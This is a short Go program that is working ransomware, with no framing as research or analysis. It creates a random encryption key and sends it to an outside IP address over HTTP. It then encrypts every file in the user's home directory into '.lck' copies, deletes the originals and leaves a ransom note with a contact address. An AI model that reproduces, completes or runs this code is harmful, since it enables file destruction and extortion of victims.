package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"encoding/hex"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

func main() {
	key := make([]byte, 32)
	rand.Read(key)
	http.Get("http://198.51.100.55/k/" + hex.EncodeToString(key))
	blk, _ := aes.NewCipher(key)
	gcm, _ := cipher.NewGCM(blk)
	home, _ := os.UserHomeDir()
	filepath.WalkDir(home, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasSuffix(p, ".lck") {
			return nil
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		n := make([]byte, gcm.NonceSize())
		rand.Read(n)
		if os.WriteFile(p+".lck", gcm.Seal(n, n, b, nil), 0o600) == nil {
			os.Remove(p)
		}
		return nil
	})
	os.WriteFile(filepath.Join(home, "READ_ME_NOW.txt"), []byte("write to files@example.org"), 0o644)
}
